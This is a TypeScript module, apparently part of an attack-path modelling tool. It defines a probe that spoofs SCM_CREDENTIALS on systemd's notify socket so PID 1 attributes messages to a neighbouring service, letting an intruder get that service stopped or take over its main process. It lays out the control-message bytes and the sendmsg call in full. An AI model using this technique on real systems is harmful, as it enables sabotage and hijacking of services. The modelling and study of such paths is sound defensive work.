/**
 * Tells PID 1 nothing in another service's name: a datagram without a byte, which it passes over, with that service's process as its
 * sender. The kernel lets only those name another whom CAP_SYS_ADMIN lets (scm_check_creds in its net/core/scm.c). What is said in earnest
 * is believed as far as the other's NotifyAccess= goes. Facts: sd_notify(3), SCM_CREDENTIALS in unix(7), sendmsg(2).
 */
import { littleEndian } from "../../kernel/bytes.ts";
import { CONTROL_MESSAGES, SOCKET_FLAGS, SOL_SOCKET } from "../../kernel/socket-type.ts";
import { bytes, call, number, resultOf, step } from "../act.ts";
import type { Probe } from "../probe.ts";
import { pathAddress, reachNeed, socketStep, withoutListener } from "../socket.ts";

const SOCKET = "/run/systemd/notify";
/** struct cmsghdr of 16 bytes, struct ucred of 12. */
const CONTROL_LENGTH = 28;

/** The attack: tell PID 1 about another service. */
export const notifyForNeighbour: Probe = {
  id: "notify-for-neighbour",
  title: "tell PID 1 that another service stops, or is another process",
  gain: "A service that PID 1 kills, or whose main process is the intruder's from now on.",
  goals: ["spy-or-stop", "logs"],
  steps: (machine) => {
    const { neighbour } = machine;
    const to = pathAddress(SOCKET);
    const control = [
      ...[
        ...littleEndian(CONTROL_LENGTH, 8),
        ...littleEndian(SOL_SOCKET, 4),
        ...littleEndian(CONTROL_MESSAGES.SCM_CREDENTIALS, 4),
      ],
      ...[...littleEndian(neighbour.pid, 4), ...littleEndian(0, 4), ...littleEndian(0, 4)],
    ];
    // struct msghdr: name, its length, vectors, their number, control, its length, flags.
    const message = {
      kind: "pointers",
      to: [bytes(to), number(to.length), number(0), number(0), bytes(control), number(CONTROL_LENGTH), number(0)],
    } as const;
    const steps = [
      socketStep("AF_UNIX", SOCKET_FLAGS.SOCK_NONBLOCK, "SOCK_DGRAM"),
      step(
        "send",
        call("sendmsg", resultOf("socket"), message, number(0)),
        [
          reachNeed(SOCKET, "send"),
          { kind: "capability", capability: "CAP_SYS_ADMIN", over: "pid" },
          { kind: "become", uid: 0, gid: 0 },
          { kind: "process", operation: "name", target: neighbour.process },
        ],
        { past: ["EAGAIN"] },
      ),
    ];
    return withoutListener(machine, SOCKET) ?? steps;
  },
};
